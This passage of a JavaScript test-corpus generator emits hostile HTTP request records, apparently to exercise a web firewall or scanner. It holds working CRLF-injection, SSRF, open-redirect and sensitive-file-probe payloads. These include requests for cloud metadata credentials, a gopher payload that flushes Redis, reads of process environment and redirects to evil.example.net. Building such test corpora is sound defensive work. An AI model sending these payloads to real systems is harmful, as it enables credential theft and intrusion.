  mp(c, '/api/upload', [{ name: 'file', filename: 'a.txt%0d%0aContent-Type: text/html', type: 'text/plain', content: 'x' }]);
  hdr(c, '/account', { Cookie: 'lang=en%0d%0aX-Forwarded-For:%20127.0.0.1' });
  q(c, '/api/callback', [['cb', 'done\\r\\nSet-Cookie: h=8']]);
  hdr(c, '/login', { Referer: 'https://shop.example.test/%0d%0aSet-Cookie:%20i=9' });
  json(c, '/api/cache/key', { key: 'user:7\r\nset admin 0 0 4\r\ntrue\r\n' });
  push(c, 'POST', '/api/search', '', 'q=1&x=GET%20/%20HTTP/1.1%0d%0aHost:%20internal%0d%0a%0d%0a', { ctype: 'application/x-www-form-urlencoded' });
  gz(c, '/api/notifications', JSON.stringify({ title: 'x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 302 Found\r\nLocation: https://evil.example.net' }), 'application/json');
  xml(c, '/ws/mail', '<?xml version="1.0"?><mail><to>ops@example.org%0ACc:%20all@evil.example.net</to></mail>');
  q(c, '/r', [['u', ['%E5%98%8D%E5%98%8ALocation:%20//evil.example.net']]]);
}

// ---------------------------------------------------------------- SSRF: address notations, more clouds' metadata, schemes, socket paths
{
  const c = 'ssrf';
  json(c, '/api/webhooks', { url: 'http://0251.0376.0251.0376/latest/meta-data/' });
  q(c, '/proxy/img', [['src', 'http://0xa9.0xfe.0xa9.0xfe/latest/user-data']]);
  form(c, '/api/fetch', [['url', 'http://2852039166/latest/meta-data/iam/']]);
  json(c, '/api/link-preview', { url: 'http://0xA9FEA9FE/computeMetadata/v1/' });
  json(c, '/api/webhooks', { url: 'http://[fd00:ec2::254]/latest/meta-data/' });
  q(c, '/proxy/fetch', [['u', 'http://metadata.google.internal./computeMetadata/v1/instance/attributes/?recursive=true']]);
  json(c, '/api/import/url', { source: 'http://100.100.100.200/latest/meta-data/ram/security-credentials/' });
  form(c, '/api/fetch', [['url', 'http://169.254.170.2/v2/credentials/']]);
  json(c, '/api/oembed', { url: 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/' });
  q(c, '/proxy/img', [['src', 'http://127.1:8080/actuator/env']]);
  json(c, '/api/webhooks', { url: 'http://[::]:6379/' });
  q(c, '/proxy/fetch', [['u', 'http://[0:0:0:0:0:ffff:127.0.0.1]:9200/_cat/indices']]);
  json(c, '/api/link-preview', { url: 'http://①②⑦.⓪.⓪.①:8500/v1/kv/?recurse' });
  form(c, '/api/fetch', [['url', 'http://127.0.0.1.nip.io:2375/containers/json']]);
  json(c, '/api/webhooks', { url: 'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A' });
  q(c, '/proxy/fetch', [['u', 'dict://127.0.0.1:11211/stats']]);
  json(c, '/api/import/url', { source: 'file:///proc/self/environ' });
  q(c, '/proxy/img', [['src', 'http:\\\\169.254.169.254\\latest\\meta-data\\']]);
  get(c, '/proxy', `url=${enc('unix:/var/run/docker.sock|http://localhost/containers/json')}`);
  json(c, '/api/webhooks', { url: 'https://localhost:6443/api/v1/namespaces/kube-system/secrets' });
  form(c, '/api/fetch', [['url', 'http://consul.service.consul:8500/v1/agent/self']]);
  json(c, '/api/integrations/vault', { address: 'http://vault.vault.svc:8200/v1/sys/raw/logical' });
  mp(c, '/api/themes', [{ name: 'css', filename: 'custom.css', type: 'text/css', content: '@import url("http://169.254.169.254/latest/meta-data/hostname");\nbody{background:url(http://127.0.0.1:8080/admin)}' }]);
  json(c, '/api/pdf/render', { html: '<link rel="stylesheet" href="http://169.254.169.254/latest/meta-data/iam/security-credentials/ec2-role">' });
  hdr(c, '/api/status', { Host: '169.254.169.254' });
  xml(c, '/ws/import', '<?xml version="1.0"?><feed><link href="http://192.0.0.192/latest/"/></feed>');
  gql(c, 'mutation F($u: String!) { fetchFeed(url: $u) { title } }', { u: 'http://localhost%00.example.org/admin' });
  json(c, '/api/webhooks', { urls: ['https://hooks.example.org/ok', 'http://[::ffff:a9fe:a9fe]:80@hooks.example.org/'] });
}

// ---------------------------------------------------------------- open redirects
{
  const c = 'redirect';
  q(c, '/login', [['next', 'https:evil.example.net']]);
  q(c, '/login', [['next', '/\\/evil.example.net']]);
  q(c, '/login', [['next', '\\/\\/evil.example.net/']]);
  q(c, '/login', [['next', '//evil。example。net']]);
  q(c, '/login', [['next', 'https://evil.example.net#@shop.example.test']]);
  q(c, '/login', [['next', 'https://shop.example.test.evil.example.net/']]);
  q(c, '/login', [['next', ['/%09/evil.example.net']]]);
  q(c, '/login', [['next', ['/%2f%2fevil.example.net']]]);
  q(c, '/logout', [['returnTo', 'https://evil.example.net;@shop.example.test']]);
  q(c, '/go', [['url', 'jAvAsCrIpT:alert(document.domain)']]);
  q(c, '/go', [['url', 'data:text/html;base64,PHNjcmlwdD5sb2NhdGlvbj0naHR0cHM6Ly9ldmlsLmV4YW1wbGUubmV0Jzwvc2NyaXB0Pg==']]);
  q(c, '/oauth/authorize', [['client_id', 'shop-web'], ['response_type', 'token'], ['redirect_uri', 'https://evil.example.net/cb']]);
  json(c, '/api/auth/login', { email: 'a@example.org', password: 'x', returnTo: '//evil.example.net/%2e%2e' });
  q(c, '/login', [['next', ['https://evil.example.net%3F.shop.example.test']]]);
  q(c, '/login', [['next', 'https://evil.example.net\\.shop.example.test']]);
  q(c, '/redirect', [['to', ['%252f%252fevil.example.net']]]);
  q(c, '/login', [['next', 'http://0xcb007101/']]);
  form(c, '/logout', [['location', 'https://%65vil.example.net/']]);
}

// ---------------------------------------------------------------- sensitive-file probes: tool state, credentials, logs, debug consoles
{
  const c = 'files';
  for (const p of [
    '/.DS_Store', '/.idea/workspace.xml', '/.vscode/sftp.json', '/sftp-config.json', '/.ftpconfig', '/.docker/config.json', '/.kube/config',
    '/.npmrc', '/.pypirc', '/config.php.bak', '/.config.inc.php.swp', '/index.php.orig', '/settings.py~', '/local_settings.py',
    '/config/database.yml', '/config/secrets.yml', '/credentials.json', '/service-account.json', '/phpinfo.php', '/server-info',
    '/wp-content/debug.log', '/storage/logs/laravel.log', '/logs/access.log', '/WEB-INF/classes/application.yml', '/vendor/composer/installed.json',
    '/terraform.tfstate', '/.ssh/authorized_keys', '/privkey.pem', '/db_backup.sql', '/site.tar.bz2', '/.svn/wc.db', '/.bzr/branch/branch.conf',
    '/.git/index', '/.env.production.local', '/app/etc/env.php', '/LocalSettings.php.bak', '/.mysql_history', '/.rediscli_history',
    '/.config/gcloud/credentials.db', '/actuator/heapdump', '/_debugbar/open', '/telescope/requests', '/__clockwork/app', '/console',
  ]) get(c, p);
  q(c, '/api/download', [['file', '.aws/credentials']]);
  hdr(c, '/', { 'X-Original-URL': '/.git/HEAD' });
  json(c, '/api/backup/get', { name: '../.env.production' });
}

process.stdout.write(records.map((r) => JSON.stringify(r)).join('\n') + '\n');
